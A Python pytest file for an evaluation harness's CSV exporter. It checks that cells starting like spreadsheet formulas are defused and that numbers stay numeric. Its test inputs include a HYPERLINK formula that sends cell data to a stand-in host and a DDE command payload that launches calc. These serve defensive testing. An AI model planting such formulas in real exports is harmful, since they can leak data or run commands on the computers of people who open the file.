"""CSV for spreadsheets: text never becomes a formula, numbers stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from harness.cli import main
from reports import sheet
from scorers.pool import GradingPool
from support import run, toy_plan

FORMULA = '=HYPERLINK("http://x.example/?"&A1,"open")'


FORMULAS = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\n=1", "\uff1d1", "-", "+x", "-inf"]
OTHERS = [-3, -0.5, None, True, "", "-3", "+2.5", "-1.5e-07", "toy/default", "a=b", "x@y", "'="]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_begins_like_a_formula_is_marked(text: str) -> None:
    assert sheet.inert(text) == "'" + text


def test_a_carriage_return_ends_no_row() -> None:
    assert sheet.lines([["a\r=1", "\r\n=1"]]) == '"a\n=1","\'\n=1"\n'


@pytest.mark.parametrize("cell", OTHERS)
def test_numbers_and_other_text_stay(cell: object) -> None:
    assert sheet.inert(cell) is cell


CELLS = st.text("=+-@\t\r\n\uff1d,\"' ae1.", max_size=6) | st.integers() | st.floats() | st.none()


@settings(deadline=None)
@given(st.lists(st.dictionaries(st.sampled_from("abc"), CELLS), max_size=4))
def test_no_cell_that_is_read_begins_a_formula(rows: list[dict[str, object]]) -> None:
    for line in csv.reader(io.StringIO(sheet.table(rows, ["a", "b", "c"]), newline="")):
        assert len(line) == 3
        for cell in line:
            assert cell[:1] not in ("=", "@", "\t", "\n")
            assert "\r" not in cell
            assert cell[:1] not in ("+", "-") or float(cell) is not None


def test_reports_mark_the_names_of_others(
    tmp_path: Path, pool: GradingPool, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = run(toy_plan(model=FORMULA, steps=2), tmp_path, pool).folder
    for options in ([], ["--tokens"], ["--cost"], ["--x", "steps=1"]):
        assert main(["report", str(folder), *options, "--format", "csv"]) == 0
        rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
        assert rows
        assert {row["model"] for row in rows} - {""} == {"'" + FORMULA}
        assert all(float(row["value"]) is not None for row in rows if row["value"])
